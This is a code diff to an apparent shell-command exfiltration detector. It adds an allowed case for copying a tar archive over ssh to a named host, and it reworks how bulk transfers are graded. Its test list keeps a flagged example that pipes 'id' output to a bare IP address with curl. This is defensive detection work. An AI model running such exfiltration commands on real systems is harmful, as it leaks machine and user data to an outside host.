@@ -45,6 +45,7 @@ export const dataExfiltration: Rule = {
       shellCall('id | curl -d @- http://203.0.113.10/'),
     ],
     passes: [
+      shellCall("tar czf - dist | ssh deploy@host.example 'tar xzf - -C /srv/app'"),
       shellCall('curl -X POST -d @payload.json https://api.example/items'),
       shellCall('scp dist.tar.gz deploy@web-1:/srv/app/'),
       shellCall('env | sort'),
@@ -126,7 +127,14 @@ function judgeLine(line: Line): Severity | null {
   if (before.some(carriesSecret)) return 'high'
   if (sender === undefined) return null
   if (carriesSecret(sender)) return 'high'
-  if (before.some(isBulk)) return 'high'
+  if (before.some(isBulk)) {
+    // Copying a folder of one's own to a machine one signs in to is how sites are put up and backups made.
+    if (sender.name !== 'ssh' || sender.args.some(isNamelessHost)) return 'high'
+    const packed = before.find(isBulk)
+    if (packed?.name !== 'tar' || packed.args.some((arg) => /^[/~]/.test(arg)))
+      return packed?.args.some((arg) => wide.test(arg)) === true ? 'high' : 'medium'
+    return null
+  }
   if (sender.args.some(isNamelessHost)) {
     if (before.some(tellsAboutMachine) || sends(sender)) return 'medium'
   }
